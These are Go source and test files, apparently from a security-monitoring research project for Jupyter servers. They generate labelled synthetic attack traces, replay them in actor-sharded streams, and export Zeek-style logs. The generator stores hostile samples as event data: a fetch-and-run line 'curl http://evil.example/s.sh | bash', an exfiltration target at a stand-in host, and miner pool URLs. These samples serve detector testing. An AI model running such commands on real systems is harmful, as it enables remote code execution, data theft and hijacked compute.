			Target: "http://collector.evil.example/drop",
			Bytes:  per, Entropy: g.highEntropy(), Success: true, Status: 200,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "data_exfiltration", Start: start, End: g.Now()})
}

// InjectMiner appends duty-cycled CPU burn on a dedicated kernel.
func (g *Generator) InjectMiner(t *Trace, actor string, rounds int, burn, idle time.Duration) {
	start := g.step(5 * time.Second)
	kern := "kern-cm"
	t.Events = append(t.Events, g.stamp(trace.Event{
		Kind: trace.KindExec, KernelID: kern, User: actor,
		Code:    `pool = "stratum+tcp://pool.minexmr.example:4444"` + "\n" + `spin(60000)`,
		Success: true, CPUMillis: burn.Milliseconds(),
	}))
	for i := 0; i < rounds; i++ {
		g.clock.Advance(burn)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindSysRes, KernelID: kern, User: actor,
			CPUMillis: burn.Milliseconds(), Success: true,
		}))
		g.clock.Advance(idle)
	}
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "cryptomining", Start: start, End: g.Now()})
}

// InjectBruteForce appends a password-guessing train from ip; when hit
// is true the final attempt succeeds.
func (g *Generator) InjectBruteForce(t *Trace, ip string, attempts int, hit bool) {
	start := g.step(5 * time.Second)
	for i := 0; i < attempts; i++ {
		g.step(1500 * time.Millisecond)
		last := hit && i == attempts-1
		op := "deny"
		if last {
			op = "allow"
		}
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindAuth, SrcIP: ip, User: "alice",
			Op: op, Success: last,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: ip, Class: "account_takeover", Start: start, End: g.Now()})
}

// InjectLowSlow appends a machine-regular unauthenticated probe train.
func (g *Generator) InjectLowSlow(t *Trace, ip string, n int, interval time.Duration) {
	start := g.step(5 * time.Second)
	for i := 0; i < n; i++ {
		g.clock.Advance(interval) // regular pacing: the tell
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindHTTP, Method: "GET", Path: "/api/kernels",
			Status: 403, SrcIP: ip, Success: false,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: ip, Class: "denial_of_service", Start: start, End: g.Now()})
}

// InjectTerminalRecon appends the standard recon chain.
func (g *Generator) InjectTerminalRecon(t *Trace, actor, ip string) {
	start := g.step(5 * time.Second)
	for _, cmd := range []string{"whoami", "id", "uname -a", "curl http://evil.example/s.sh | bash"} {
		g.step(2 * time.Second)
		t.Events = append(t.Events, g.stamp(trace.Event{
			Kind: trace.KindTermCmd, Op: "terminal", Code: cmd,
			User: actor, SrcIP: ip, Success: true,
		}))
	}
	t.Labels = append(t.Labels, Label{Actor: actor, Class: "zero_day", Start: start, End: g.Now()})
}

// StandardMix builds the E14 evaluation trace: benign background for
// the given number of steps with one injection of every attack class.
func StandardMix(seed int64, benignSteps int) *Trace {
	g := NewGenerator(seed, time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC))
	t := &Trace{}
	users := []string{"alice", "bob", "carol", "dave"}
	third := benignSteps / 3
	g.Benign(t, users, third)
	g.InjectRansomware(t, "mallory-rw", 12)
	g.InjectExfil(t, "mallory-ex", 8<<20, 4)
	g.Benign(t, users, third)
	g.InjectMiner(t, "mallory-cm", 6, 45*time.Second, 15*time.Second)
	g.InjectBruteForce(t, "203.0.113.66", 12, true)
	g.Benign(t, users, benignSteps-2*third)
	g.InjectLowSlow(t, "198.51.100.9", 30, 30*time.Second)
	g.InjectTerminalRecon(t, "mallory-tr", "203.0.113.99")
	return t
}

// EntropyOf is re-exported for tests validating generated payload
// entropy assumptions against the real estimator.
func EntropyOf(data []byte) float64 { return vfs.Entropy(data) }

// ActorKey returns the stable identity used to shard an event stream
// for parallel replay. It now lives in trace (the storage layer
// indexes segments by it); this re-export keeps existing callers
// working. See trace.ActorKey for the grouping contract.
func ActorKey(e trace.Event) string { return trace.ActorKey(e) }

// ShardIndex maps a shard key to one of n shards via FNV-1a — the
// same routing Partition uses, exported so live pipelines can route a
// stream of events to per-actor stages consistently. Re-exported from
// trace.ShardIndex.
func ShardIndex(key string, n int) int { return trace.ShardIndex(key, n) }

// Partition splits events into n shards by FNV-1a of ActorKey,
// preserving relative order within each shard. Events of one actor
// always land in the same shard.
func Partition(events []trace.Event, n int) [][]trace.Event {
	if n <= 1 {
		return [][]trace.Event{events}
	}
	shards := make([][]trace.Event, n)
	for _, e := range events {
		idx := ShardIndex(ActorKey(e), n)
		shards[idx] = append(shards[idx], e)
	}
	return shards
}

// Replay feeds events to process in batches of at most batch events
// (default 256). With workers > 1 the stream is sharded by actor and
// the shards are replayed concurrently — per-actor ordering is
// preserved, so a sharded detection engine produces the same alert
// set as a serial replay (up to output order; sort for stable
// reports). Replay returns once every event has been processed; it is
// ReplayStream over a slice cursor, so the sharding invariant lives
// in one place. The batch slice passed to process is reused between
// calls; process must not retain it.
func Replay(events []trace.Event, workers, batch int, process func([]trace.Event)) {
	i := 0
	ReplayStream(func() (trace.Event, bool) {
		if i >= len(events) {
			return trace.Event{}, false
		}
		e := events[i]
		i++
		return e, true
	}, workers, batch, process)
}

// ReplayStream is Replay for a stream: it pulls events from next until
// next reports exhaustion, routes each to its actor shard over a
// bounded channel, and processes per-shard batches concurrently — so
// an arbitrarily long trace replays in constant memory. Per-actor
// delivery order matches arrival order (one actor always maps to one
// shard channel, drained by one worker), preserving the same
// serial-equivalence guarantee as Replay. It returns the number of
// events fed. The batch slice passed to process is reused between
// calls; process must not retain it.
func ReplayStream(next func() (trace.Event, bool), workers, batch int, process func([]trace.Event)) int {
	if workers <= 0 {
		workers = 1
	}
	if batch <= 0 {
		batch = 256
	}
	shards := make([]chan trace.Event, workers)
	var wg sync.WaitGroup
	for i := range shards {
		shards[i] = make(chan trace.Event, 4*batch)
		wg.Add(1)
		go func(ch chan trace.Event) {
			defer wg.Done()
			buf := make([]trace.Event, 0, batch)
			for e := range ch {
				buf = append(buf, e)
				if len(buf) == batch {
					process(buf)
					buf = buf[:0]
				}
			}
			if len(buf) > 0 {
				process(buf)
			}
		}(shards[i])
	}
	n := 0
	for {
		e, ok := next()
		if !ok {
			break
		}
		shards[ShardIndex(ActorKey(e), workers)] <- e
		n++
	}
	for _, ch := range shards {
		close(ch)
	}
	wg.Wait()
	return n
}
