package workload

import (
	"sync"
	"testing"
	"time"

	"repro/internal/trace"
)

func TestDeterminism(t *testing.T) {
	a := StandardMix(7, 300)
	b := StandardMix(7, 300)
	if len(a.Events) != len(b.Events) {
		t.Fatalf("lengths differ: %d vs %d", len(a.Events), len(b.Events))
	}
	for i := range a.Events {
		if a.Events[i].Kind != b.Events[i].Kind || !a.Events[i].Time.Equal(b.Events[i].Time) {
			t.Fatalf("event %d differs", i)
		}
	}
	c := StandardMix(8, 300)
	same := len(a.Events) == len(c.Events)
	if same {
		diff := false
		for i := range a.Events {
			if a.Events[i].Kind != c.Events[i].Kind {
				diff = true
				break
			}
		}
		same = !diff
	}
	if same {
		t.Fatal("different seeds produced identical traces")
	}
}

func TestEventsAreTimeOrdered(t *testing.T) {
	tr := StandardMix(3, 400)
	for i := 1; i < len(tr.Events); i++ {
		if tr.Events[i].Time.Before(tr.Events[i-1].Time) {
			t.Fatalf("event %d out of order", i)
		}
	}
}

func TestLabelsCoverAllClasses(t *testing.T) {
	tr := StandardMix(1, 100)
	classes := map[string]bool{}
	for _, l := range tr.Labels {
		classes[l.Class] = true
		if l.End.Before(l.Start) {
			t.Fatalf("label %+v has negative window", l)
		}
	}
	for _, want := range []string{
		"ransomware", "data_exfiltration", "cryptomining",
		"account_takeover", "denial_of_service", "zero_day",
	} {
		if !classes[want] {
			t.Errorf("label class %s missing", want)
		}
	}
}

func TestMaliciousActorsDistinctFromBenign(t *testing.T) {
	tr := StandardMix(5, 200)
	actors := tr.MaliciousActors()
	for _, benign := range []string{"alice", "bob", "carol", "dave"} {
		if _, bad := actors[benign]; bad {
			t.Errorf("benign user %s labelled malicious", benign)
		}
	}
	if len(actors) != 6 {
		t.Fatalf("actors = %v", actors)
	}
}

func TestBenignEntropyRealistic(t *testing.T) {
	g := NewGenerator(2, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &Trace{}
	g.Benign(tr, []string{"alice"}, 500)
	for _, e := range tr.Events {
		if e.Kind == trace.KindFileOp && e.Op == "write" && e.Entropy > 7.0 {
			t.Fatalf("benign write with ciphertext entropy: %+v", e)
		}
	}
}

func TestRansomwareInjectionShape(t *testing.T) {
	g := NewGenerator(2, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &Trace{}
	g.InjectRansomware(tr, "m", 10)
	var highEntropyWrites, renames, notes int
	for _, e := range tr.Events {
		if e.Kind != trace.KindFileOp {
			continue
		}
		switch {
		case e.Op == "write" && e.Entropy > 7.2:
			highEntropyWrites++
		case e.Op == "rename":
			renames++
		case e.Op == "create" && e.Target == "README_RANSOM.txt":
			notes++
		}
	}
	if highEntropyWrites != 10 || renames != 10 || notes != 1 {
		t.Fatalf("writes=%d renames=%d notes=%d", highEntropyWrites, renames, notes)
	}
}

func TestLowSlowPacingIsRegular(t *testing.T) {
	g := NewGenerator(2, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &Trace{}
	g.InjectLowSlow(tr, "9.9.9.9", 10, 30*time.Second)
	var prev time.Time
	for i, e := range tr.Events {
		if i > 0 {
			if gap := e.Time.Sub(prev); gap != 30*time.Second {
				t.Fatalf("gap %d = %v", i, gap)
			}
		}
		prev = e.Time
	}
}

func TestEntropyOfMatchesVFS(t *testing.T) {
	if e := EntropyOf([]byte("aaaa")); e != 0 {
		t.Fatalf("entropy = %f", e)
	}
}

func TestGeneratorSeqMonotone(t *testing.T) {
	tr := StandardMix(4, 100)
	for i := 1; i < len(tr.Events); i++ {
		if tr.Events[i].Seq <= tr.Events[i-1].Seq {
			t.Fatalf("seq not monotone at %d", i)
		}
	}
}

func TestActorKeyPrecedence(t *testing.T) {
	cases := []struct {
		e    trace.Event
		want string
	}{
		{trace.Event{Kind: trace.KindAuth, SrcIP: "1.2.3.4", User: "alice"}, "1.2.3.4"},
		{trace.Event{Kind: trace.KindHTTP, SrcIP: "1.2.3.4", User: "alice"}, "1.2.3.4"},
		{trace.Event{Kind: trace.KindExec, SrcIP: "1.2.3.4", User: "alice"}, "alice"},
		{trace.Event{Kind: trace.KindFileOp, SrcIP: "1.2.3.4"}, "1.2.3.4"},
		// sys_res keys by kernel even when a user is present: CM-003
		// thresholds group resource samples by kernel_id.
		{trace.Event{Kind: trace.KindSysRes, KernelID: "kern-1", User: "alice"}, "kern-1"},
		{trace.Event{Kind: trace.KindSysRes, KernelID: "kern-1"}, "kern-1"},
	}
	for i, c := range cases {
		if got := ActorKey(c.e); got != c.want {
			t.Errorf("case %d: ActorKey = %q, want %q", i, got, c.want)
		}
	}
}

func TestPartitionPreservesActorOrder(t *testing.T) {
	tr := StandardMix(31, 300)
	shards := Partition(tr.Events, 8)
	total := 0
	for _, sh := range shards {
		total += len(sh)
		// Within a shard, seq must stay monotone per actor (and in
		// fact globally, since shards preserve stream order).
		for i := 1; i < len(sh); i++ {
			if sh[i].Seq <= sh[i-1].Seq {
				t.Fatalf("shard order broken: seq %d after %d", sh[i].Seq, sh[i-1].Seq)
			}
		}
		// An actor never spans shards.
	}
	if total != len(tr.Events) {
		t.Fatalf("partition lost events: %d != %d", total, len(tr.Events))
	}
	seen := map[string]int{}
	for si, sh := range shards {
		for _, e := range sh {
			key := ActorKey(e)
			if prev, ok := seen[key]; ok && prev != si {
				t.Fatalf("actor %q split across shards %d and %d", key, prev, si)
			}
			seen[key] = si
		}
	}
}

func TestReplayCoversAllEventsInBatches(t *testing.T) {
	tr := StandardMix(32, 200)
	for _, workers := range []int{1, 4} {
		var mu sync.Mutex
		count := 0
		maxBatch := 0
		Replay(tr.Events, workers, 64, func(b []trace.Event) {
			mu.Lock()
			count += len(b)
			if len(b) > maxBatch {
				maxBatch = len(b)
			}
			mu.Unlock()
		})
		if count != len(tr.Events) {
			t.Fatalf("workers=%d: replayed %d of %d events", workers, count, len(tr.Events))
		}
		if maxBatch > 64 {
			t.Fatalf("workers=%d: batch of %d exceeds limit", workers, maxBatch)
		}
	}
}

// TestReplayStreamMatchesReplay verifies the streaming replay covers
// every event with the same per-actor single-shard guarantee as the
// slice-based Replay, without the caller ever holding the full trace.
func TestReplayStreamMatchesReplay(t *testing.T) {
	tr := StandardMix(33, 300)
	for _, workers := range []int{1, 4} {
		i := 0
		next := func() (trace.Event, bool) {
			if i >= len(tr.Events) {
				return trace.Event{}, false
			}
			e := tr.Events[i]
			i++
			return e, true
		}
		var mu sync.Mutex
		count := 0
		perActor := map[string][]uint64{}
		n := ReplayStream(next, workers, 64, func(b []trace.Event) {
			mu.Lock()
			defer mu.Unlock()
			count += len(b)
			for _, e := range b {
				key := ActorKey(e)
				perActor[key] = append(perActor[key], e.Seq)
			}
		})
		if n != len(tr.Events) || count != len(tr.Events) {
			t.Fatalf("workers=%d: fed %d, processed %d, want %d", workers, n, count, len(tr.Events))
		}
		for actor, seqs := range perActor {
			for j := 1; j < len(seqs); j++ {
				if seqs[j] <= seqs[j-1] {
					t.Fatalf("workers=%d: actor %s out of order: %v", workers, actor, seqs)
				}
			}
		}
	}
}
