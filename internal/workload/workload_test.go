package workload

import (
	"testing"
	"time"

	"repro/internal/trace"
)

func TestDeterminism(t *testing.T) {
	a := StandardMix(7, 300)
	b := StandardMix(7, 300)
	if len(a.Events) != len(b.Events) {
		t.Fatalf("lengths differ: %d vs %d", len(a.Events), len(b.Events))
	}
	for i := range a.Events {
		if a.Events[i].Kind != b.Events[i].Kind || !a.Events[i].Time.Equal(b.Events[i].Time) {
			t.Fatalf("event %d differs", i)
		}
	}
	c := StandardMix(8, 300)
	same := len(a.Events) == len(c.Events)
	if same {
		diff := false
		for i := range a.Events {
			if a.Events[i].Kind != c.Events[i].Kind {
				diff = true
				break
			}
		}
		same = !diff
	}
	if same {
		t.Fatal("different seeds produced identical traces")
	}
}

func TestEventsAreTimeOrdered(t *testing.T) {
	tr := StandardMix(3, 400)
	for i := 1; i < len(tr.Events); i++ {
		if tr.Events[i].Time.Before(tr.Events[i-1].Time) {
			t.Fatalf("event %d out of order", i)
		}
	}
}

func TestLabelsCoverAllClasses(t *testing.T) {
	tr := StandardMix(1, 100)
	classes := map[string]bool{}
	for _, l := range tr.Labels {
		classes[l.Class] = true
		if l.End.Before(l.Start) {
			t.Fatalf("label %+v has negative window", l)
		}
	}
	for _, want := range []string{
		"ransomware", "data_exfiltration", "cryptomining",
		"account_takeover", "denial_of_service", "zero_day",
	} {
		if !classes[want] {
			t.Errorf("label class %s missing", want)
		}
	}
}

func TestMaliciousActorsDistinctFromBenign(t *testing.T) {
	tr := StandardMix(5, 200)
	actors := tr.MaliciousActors()
	for _, benign := range []string{"alice", "bob", "carol", "dave"} {
		if _, bad := actors[benign]; bad {
			t.Errorf("benign user %s labelled malicious", benign)
		}
	}
	if len(actors) != 6 {
		t.Fatalf("actors = %v", actors)
	}
}

func TestBenignEntropyRealistic(t *testing.T) {
	g := NewGenerator(2, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &Trace{}
	g.Benign(tr, []string{"alice"}, 500)
	for _, e := range tr.Events {
		if e.Kind == trace.KindFileOp && e.Op == "write" && e.Entropy > 7.0 {
			t.Fatalf("benign write with ciphertext entropy: %+v", e)
		}
	}
}

func TestRansomwareInjectionShape(t *testing.T) {
	g := NewGenerator(2, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &Trace{}
	g.InjectRansomware(tr, "m", 10)
	var highEntropyWrites, renames, notes int
	for _, e := range tr.Events {
		if e.Kind != trace.KindFileOp {
			continue
		}
		switch {
		case e.Op == "write" && e.Entropy > 7.2:
			highEntropyWrites++
		case e.Op == "rename":
			renames++
		case e.Op == "create" && e.Target == "README_RANSOM.txt":
			notes++
		}
	}
	if highEntropyWrites != 10 || renames != 10 || notes != 1 {
		t.Fatalf("writes=%d renames=%d notes=%d", highEntropyWrites, renames, notes)
	}
}

func TestLowSlowPacingIsRegular(t *testing.T) {
	g := NewGenerator(2, time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC))
	tr := &Trace{}
	g.InjectLowSlow(tr, "9.9.9.9", 10, 30*time.Second)
	var prev time.Time
	for i, e := range tr.Events {
		if i > 0 {
			if gap := e.Time.Sub(prev); gap != 30*time.Second {
				t.Fatalf("gap %d = %v", i, gap)
			}
		}
		prev = e.Time
	}
}

func TestEntropyOfMatchesVFS(t *testing.T) {
	if e := EntropyOf([]byte("aaaa")); e != 0 {
		t.Fatalf("entropy = %f", e)
	}
}

func TestGeneratorSeqMonotone(t *testing.T) {
	tr := StandardMix(4, 100)
	for i := 1; i < len(tr.Events); i++ {
		if tr.Events[i].Seq <= tr.Events[i-1].Seq {
			t.Fatalf("seq not monotone at %d", i)
		}
	}
}
