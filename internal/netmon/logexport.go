package netmon

import (
	"fmt"
	"io"
	"strconv"
	"strings"
)

// Zeek-style tab-separated log export: one writer per typed log
// stream, with the #fields/#types header lines Zeek consumers expect.
// This makes the monitor's output drop-in consumable by the log
// tooling HPC security teams already run — the integration path the
// paper's related-work section points at (Zeek PR #3555).

// writeZeekHeader emits the Zeek TSV preamble.
func writeZeekHeader(w io.Writer, path string, fields, types []string) error {
	if _, err := fmt.Fprintf(w, "#separator \\x09\n#path\t%s\n", path); err != nil {
		return err
	}
	if _, err := fmt.Fprintf(w, "#fields\t%s\n", strings.Join(fields, "\t")); err != nil {
		return err
	}
	_, err := fmt.Fprintf(w, "#types\t%s\n", strings.Join(types, "\t"))
	return err
}

func tsv(w io.Writer, cols ...string) error {
	for i, c := range cols {
		if c == "" {
			cols[i] = "-"
		} else {
			cols[i] = strings.NewReplacer("\t", " ", "\n", " ").Replace(c)
		}
	}
	_, err := io.WriteString(w, strings.Join(cols, "\t")+"\n")
	return err
}

// WriteConnLog exports conn.log.
func (m *Monitor) WriteConnLog(w io.Writer) error {
	if err := writeZeekHeader(w, "conn",
		[]string{"uid", "id.orig_h", "id.orig_p", "orig_bytes", "resp_bytes", "ws_upgraded", "closed"},
		[]string{"count", "addr", "port", "count", "count", "bool", "bool"}); err != nil {
		return err
	}
	for _, c := range m.ConnLog() {
		if err := tsv(w,
			strconv.FormatUint(c.ID, 10), c.SrcIP, strconv.Itoa(c.SrcPort),
			strconv.FormatInt(c.BytesIn, 10), strconv.FormatInt(c.BytesOut, 10),
			strconv.FormatBool(c.Upgraded), strconv.FormatBool(c.Closed)); err != nil {
			return err
		}
	}
	return nil
}

// WriteHTTPLog exports http.log.
func (m *Monitor) WriteHTTPLog(w io.Writer) error {
	if err := writeZeekHeader(w, "http",
		[]string{"uid", "method", "uri", "host", "user_agent", "has_auth", "token_in_url", "upgrade", "status_code"},
		[]string{"count", "string", "string", "string", "string", "bool", "bool", "bool", "count"}); err != nil {
		return err
	}
	for _, h := range m.HTTPLog() {
		if err := tsv(w,
			strconv.FormatUint(h.ConnID, 10), h.Method, h.Path, h.Host, h.UserAgent,
			strconv.FormatBool(h.HasAuth), strconv.FormatBool(h.TokenInURL),
			strconv.FormatBool(h.Upgrade), strconv.Itoa(h.Status)); err != nil {
			return err
		}
	}
	return nil
}

// WriteWSLog exports websocket.log.
func (m *Monitor) WriteWSLog(w io.Writer) error {
	if err := writeZeekHeader(w, "websocket",
		[]string{"uid", "from_client", "opcode", "length", "fin"},
		[]string{"count", "bool", "string", "count", "bool"}); err != nil {
		return err
	}
	for _, f := range m.WSLog() {
		if err := tsv(w,
			strconv.FormatUint(f.ConnID, 10), strconv.FormatBool(f.FromClient),
			f.Opcode, strconv.Itoa(f.Length), strconv.FormatBool(f.Fin)); err != nil {
			return err
		}
	}
	return nil
}

// WriteJupyterLog exports jupyter.log — the stream the paper says no
// existing tool produces.
func (m *Monitor) WriteJupyterLog(w io.Writer) error {
	if err := writeZeekHeader(w, "jupyter",
		[]string{"uid", "from_client", "msg_type", "channel", "session", "code_size"},
		[]string{"count", "bool", "string", "string", "string", "count"}); err != nil {
		return err
	}
	for _, j := range m.JupyterLog() {
		if err := tsv(w,
			strconv.FormatUint(j.ConnID, 10), strconv.FormatBool(j.FromClient),
			j.MsgType, j.Channel, j.Session, strconv.Itoa(j.CodeSize)); err != nil {
			return err
		}
	}
	return nil
}

// WriteAllLogs exports every stream separated by blank lines.
func (m *Monitor) WriteAllLogs(w io.Writer) error {
	for _, fn := range []func(io.Writer) error{
		m.WriteConnLog, m.WriteHTTPLog, m.WriteWSLog, m.WriteJupyterLog,
	} {
		if err := fn(w); err != nil {
			return err
		}
		if _, err := io.WriteString(w, "\n"); err != nil {
			return err
		}
	}
	return nil
}
