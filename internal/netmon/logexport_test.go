package netmon

import (
	"bufio"
	"bytes"
	"strings"
	"testing"
)

func TestZeekLogExport(t *testing.T) {
	c, mon, done := tappedServer(t, FullVisibility())
	defer done()
	drive(t, c)
	settle()

	var buf bytes.Buffer
	if err := mon.WriteAllLogs(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"#path\tconn", "#path\thttp", "#path\twebsocket", "#path\tjupyter",
		"#separator", "#fields", "#types",
		"execute_request", "/api/status",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("export missing %q", want)
		}
	}
}

func TestZeekLogColumnsAligned(t *testing.T) {
	c, mon, done := tappedServer(t, FullVisibility())
	defer done()
	drive(t, c)
	settle()

	var buf bytes.Buffer
	if err := mon.WriteHTTPLog(&buf); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	var fieldCount int
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, "#fields") {
			fieldCount = len(strings.Split(line, "\t")) - 1
			continue
		}
		if strings.HasPrefix(line, "#") || line == "" {
			continue
		}
		if got := len(strings.Split(line, "\t")); got != fieldCount {
			t.Fatalf("row has %d columns, want %d: %q", got, fieldCount, line)
		}
	}
	if fieldCount == 0 {
		t.Fatal("no #fields header")
	}
}

func TestZeekLogEscapesTabs(t *testing.T) {
	var buf bytes.Buffer
	if err := tsv(&buf, "a\tb", "c\nd", ""); err != nil {
		t.Fatal(err)
	}
	line := buf.String()
	if strings.Count(line, "\t") != 2 {
		t.Fatalf("embedded separator not escaped: %q", line)
	}
	if !strings.HasSuffix(line, "\t-\n") {
		t.Fatalf("empty column not dashed: %q", line)
	}
}
