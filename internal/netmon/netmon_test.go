package netmon

import (
	"net"
	"strings"
	"testing"
	"time"

	"repro/internal/client"
	"repro/internal/core"
	"repro/internal/server"
	"repro/internal/trace"
)

// tappedServer boots a server behind a monitor tap and returns a
// client plus the monitor.
func tappedServer(t *testing.T, cfg Config) (*client.Client, *Monitor, func()) {
	t.Helper()
	srvCfg := server.HardenedConfig("wire-tok")
	srv := server.NewServer(srvCfg)
	mon := NewMonitor(cfg, nil)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr, err := srv.Serve(mon.WrapListener(ln))
	if err != nil {
		t.Fatal(err)
	}
	return client.New(addr, "wire-tok"), mon, func() { srv.Close() }
}

// drive produces one REST call and one kernel execution over WS.
func drive(t *testing.T, c *client.Client) {
	t.Helper()
	if _, err := c.Status(); err != nil {
		t.Fatal(err)
	}
	k, err := c.StartKernel("minilang")
	if err != nil {
		t.Fatal(err)
	}
	kc, err := c.ConnectKernel(k.ID, "alice")
	if err != nil {
		t.Fatal(err)
	}
	defer kc.Close()
	res, err := kc.Execute(`print("wire test")`)
	if err != nil || res.Status != "ok" {
		t.Fatalf("exec: %+v %v", res, err)
	}
}

// settle waits for async pipe analyzers to drain.
func settle() { time.Sleep(100 * time.Millisecond) }

func TestFullVisibilityLadder(t *testing.T) {
	c, mon, done := tappedServer(t, FullVisibility())
	defer done()
	drive(t, c)
	settle()

	vis := mon.Visibility()
	if vis.Conns == 0 || vis.BytesTotal == 0 {
		t.Fatalf("conn layer: %+v", vis)
	}
	if vis.HTTPRequests < 3 { // status, kernel start, ws upgrade
		t.Fatalf("http layer: %+v", vis)
	}
	if vis.WSFrames == 0 {
		t.Fatalf("ws layer: %+v", vis)
	}
	if vis.JupyterMessages < 6 { // request + 5 responses
		t.Fatalf("jupyter layer: %+v", vis)
	}

	// Typed logs populated.
	if len(mon.HTTPLog()) != int(vis.HTTPRequests) {
		t.Fatal("http log mismatch")
	}
	var sawUpgrade bool
	for _, h := range mon.HTTPLog() {
		if h.Upgrade && strings.Contains(h.Path, "/channels") {
			sawUpgrade = true
		}
	}
	if !sawUpgrade {
		t.Fatal("upgrade not recorded in http.log")
	}
	var sawExecuteRequest, sawStatusMsg bool
	for _, j := range mon.JupyterLog() {
		if j.MsgType == "execute_request" && j.FromClient {
			sawExecuteRequest = true
			if j.CodeSize == 0 {
				t.Error("execute_request code size not extracted")
			}
		}
		if j.MsgType == "status" && !j.FromClient {
			sawStatusMsg = true
		}
	}
	if !sawExecuteRequest || !sawStatusMsg {
		t.Fatalf("jupyter.log incomplete: %+v", mon.JupyterLog())
	}

	ladder := mon.Ladder()
	if !ladder.ConnLayer || !ladder.HTTPLayer || !ladder.WSLayer || !ladder.JupyterLayer {
		t.Fatalf("ladder = %+v", ladder)
	}
}

func TestTLSBlindsMonitor(t *testing.T) {
	c, mon, done := tappedServer(t, Config{SimulateTLS: true, ParseWebSocket: true, ParseJupyter: true})
	defer done()
	drive(t, c)
	settle()

	vis := mon.Visibility()
	if vis.Conns == 0 || vis.BytesTotal == 0 {
		t.Fatal("conn layer should still count")
	}
	if vis.HTTPRequests != 0 || vis.WSFrames != 0 || vis.JupyterMessages != 0 {
		t.Fatalf("TLS monitor saw plaintext: %+v", vis)
	}
	if vis.OpaqueBytes != vis.BytesTotal {
		t.Fatalf("opaque %d != total %d", vis.OpaqueBytes, vis.BytesTotal)
	}
	ladder := mon.Ladder()
	if ladder.HTTPLayer || ladder.WSLayer || ladder.JupyterLayer {
		t.Fatalf("ladder = %+v", ladder)
	}
}

func TestNoWSParserStopsAtHTTP(t *testing.T) {
	// Zeek before PR #3555: HTTP visible, WebSocket opaque.
	c, mon, done := tappedServer(t, Config{ParseWebSocket: false})
	defer done()
	drive(t, c)
	settle()

	vis := mon.Visibility()
	if vis.HTTPRequests == 0 {
		t.Fatal("http layer missing")
	}
	if vis.WSFrames != 0 || vis.JupyterMessages != 0 {
		t.Fatalf("ws parsed without parser: %+v", vis)
	}
	if vis.OpaqueBytes == 0 {
		t.Fatal("ws bytes not counted as opaque")
	}
}

func TestWSWithoutJupyterParser(t *testing.T) {
	c, mon, done := tappedServer(t, Config{ParseWebSocket: true, ParseJupyter: false})
	defer done()
	drive(t, c)
	settle()

	vis := mon.Visibility()
	if vis.WSFrames == 0 {
		t.Fatal("ws frames missing")
	}
	if vis.JupyterMessages != 0 {
		t.Fatal("jupyter parsed without parser")
	}
}

// TestWireDetection is the netmon payoff: a wire-only monitor (no host
// instrumentation) feeding the core engine still catches a miner
// payload inside an execute_request.
func TestWireDetection(t *testing.T) {
	c, mon, done := tappedServer(t, FullVisibility())
	defer done()
	eng := core.MustEngine()
	mon.Bus().Subscribe(eng)

	k, err := c.StartKernel("minilang")
	if err != nil {
		t.Fatal(err)
	}
	kc, err := c.ConnectKernel(k.ID, "mallory")
	if err != nil {
		t.Fatal(err)
	}
	defer kc.Close()
	// The payload errors at runtime (egress denied) but the wire
	// monitor sees the code regardless.
	_, _ = kc.Execute(`pool = "stratum+tcp://pool.evil:4444"
print("mining", pool)`)
	settle()

	byClass := eng.IncidentsByClass()
	if len(byClass["cryptomining"]) == 0 {
		t.Fatalf("wire monitor missed miner payload; incidents = %+v", eng.Incidents())
	}
}

func TestConnRecordsByteCounts(t *testing.T) {
	c, mon, done := tappedServer(t, FullVisibility())
	defer done()
	if _, err := c.Status(); err != nil {
		t.Fatal(err)
	}
	settle()
	conns := mon.ConnLog()
	if len(conns) == 0 {
		t.Fatal("no conn records")
	}
	var in, out int64
	for _, cr := range conns {
		in += cr.BytesIn
		out += cr.BytesOut
	}
	if in == 0 || out == 0 {
		t.Fatalf("bytes in=%d out=%d", in, out)
	}
}

func TestMonitorEmitsWireEvents(t *testing.T) {
	srvCfg := server.HardenedConfig("tok2")
	srv := server.NewServer(srvCfg)
	mon := NewMonitor(FullVisibility(), nil)
	ring := trace.NewRing(10000)
	mon.Bus().Subscribe(ring)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr, _ := srv.Serve(mon.WrapListener(ln))
	defer srv.Close()
	c := client.New(addr, "tok2")
	if _, err := c.Status(); err != nil {
		t.Fatal(err)
	}
	settle()
	kinds := trace.CountByKind(ring.Snapshot())
	if kinds[trace.KindConn] == 0 || kinds[trace.KindHTTP] == 0 {
		t.Fatalf("kinds = %v", kinds)
	}
	// Wire events are tagged as such.
	for _, e := range ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindHTTP }) {
		if e.Field("wire") != "true" {
			t.Fatalf("http event not tagged wire: %+v", e)
		}
	}
}

func TestTokenInURLVisibleOnWire(t *testing.T) {
	// The monitor sees leaked credentials in URLs — MC-003's wire
	// equivalent and the reason hardened configs refuse them.
	cfg := server.HardenedConfig("leaky-token")
	cfg.Auth.AllowTokenInURL = true
	srv := server.NewServer(cfg)
	mon := NewMonitor(FullVisibility(), nil)
	ln, _ := net.Listen("tcp", "127.0.0.1:0")
	addr, _ := srv.Serve(mon.WrapListener(ln))
	defer srv.Close()

	c := client.New(addr, "leaky-token")
	c.TokenInURL = true
	if _, err := c.Status(); err != nil {
		t.Fatal(err)
	}
	settle()
	var leaked bool
	for _, h := range mon.HTTPLog() {
		if h.TokenInURL {
